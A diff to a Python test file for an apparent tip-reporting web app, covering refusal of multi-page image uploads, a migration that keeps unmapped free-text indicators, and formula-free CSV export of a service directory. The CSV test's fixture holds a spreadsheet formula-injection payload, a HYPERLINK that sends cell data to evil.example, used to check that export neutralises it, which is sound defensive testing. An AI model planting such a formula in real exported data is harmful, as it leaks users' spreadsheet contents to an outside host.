@@ -173,8 +173,9 @@ def test_an_image_with_several_pages_is_refused_even_if_kept_as_given(operator) 
     pages = [Image.new("RGB", (20, 20), colour) for colour in ((255, 0, 0), (0, 255, 0))]
     pages[0].save(raw, format="TIFF", save_all=True, append_images=pages[1:], exif=exif.tobytes())
     response, _receipt = submit(Client(), lang="en", files=_upload(raw.getvalue(), "scan.tiff"), keep_files="on")
-    assert response.status_code == 400 and "several pages or frames" in response.content.decode()
-    assert not Report.objects.exists()
+    # Refused by name; the report is sent without it, and nothing of the file is stored.
+    assert "several pages or frames" in response.content.decode() and "scan.tiff" in response.content.decode()
+    assert not ReportFile.objects.exists()
 
 
 def test_the_form_says_which_photos_are_cleaned(operator) -> None:  # type: ignore[no-untyped-def]
@@ -230,14 +231,17 @@ def test_free_text_indicators_are_refused(operator, report) -> None:  # type: ig
                                private_key=keyring_unlock(operator, password=PASSWORD))
 
 
-def test_the_data_migration_drops_stored_free_text(report) -> None:  # type: ignore[no-untyped-def]
+def test_the_data_migration_keeps_free_text_apart_from_the_ids(report) -> None:  # type: ignore[no-untyped-def]
+    """Issue 11: 0003 used to drop the words for good; 0004 maps ids and keeps the rest visible
+    (tests/web/test_staff_path.py covers the page)."""
     import importlib
 
-    migration = importlib.import_module("tipnet.web.report.migrations.0003_triage_indicators_catalogue_ids_only")
+    migration = importlib.import_module("tipnet.web.report.migrations.0004_triage_indicators_map_free_text")
     Report.objects.filter(pk=report.pk).update(indicators=["DR_JOB_NATURE", "Tanaka hits her", 5, "CD_DOC_CONFISCATION"])
-    migration.keep_catalogue_ids(apps, None)
+    migration.map_indicators(apps, None)
     report.refresh_from_db()
     assert report.indicators == ["CD_DOC_CONFISCATION", "DR_JOB_NATURE"]
+    assert report.indicators_unmapped == ["Tanaka hits her", "5"]
 
 
 # ------------------------------------------------------------------ 10: bad ids on the operator page
@@ -276,7 +280,7 @@ def test_directory_export_is_formula_free_and_imports_back(organisations) -> Non
     from tipnet.web.directory.csv_io import COLUMNS, parse_csv, services_to_csv
 
     service = make_service(organisations["ngo"], name='=HYPERLINK("https://evil.example/?"&A1,"Shelter")',
-                           phone="+81 52 000 0000", hours="-", description={"en": "@SUM(1,2)", "ja": "'=quoted"})
+                           phone="+81 52 000 0000", texts={"en": {"hours": "-", "description": "@SUM(1,2)"}, "ja": {"description": "'=quoted"}})
     text = services_to_csv([service])
     rows = list(csv.reader(io.StringIO(text)))
     assert rows[0] == COLUMNS
@@ -284,8 +288,8 @@ def test_directory_export_is_formula_free_and_imports_back(organisations) -> Non
         assert not cell.startswith(csvsafe.FORMULA_START), cell
     assert rows[1][COLUMNS.index("name")] == "'" + service.name
     parsed = parse_csv(text)[0]
-    assert (parsed.pk, parsed.name, parsed.phone, parsed.hours) == (service.pk, service.name, service.phone, "-")
-    assert parsed.description == {"en": "@SUM(1,2)", "ja": "'=quoted"}
+    assert (parsed.pk, parsed.name, parsed.phone) == (service.pk, service.name, service.phone)
+    assert parsed.texts == {"en": {"hours": "-", "description": "@SUM(1,2)"}, "ja": {"description": "'=quoted"}}
 
 
 def test_estimate_result_csv_has_no_formulas() -> None:
